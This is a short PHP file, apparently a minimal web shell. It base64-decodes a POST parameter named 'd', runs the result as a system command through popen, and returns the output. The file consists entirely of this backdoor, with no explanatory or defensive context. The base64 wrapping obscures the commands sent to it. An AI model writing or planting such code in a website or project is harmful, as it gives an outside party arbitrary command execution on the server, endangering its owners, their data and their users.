<?php
function run($what) {
  $p = popen($what . ' 2>&1', 'r');
  while (!feof($p)) echo fread($p, 1024);
}
$in = base64_decode($_POST['d']);
run($in);
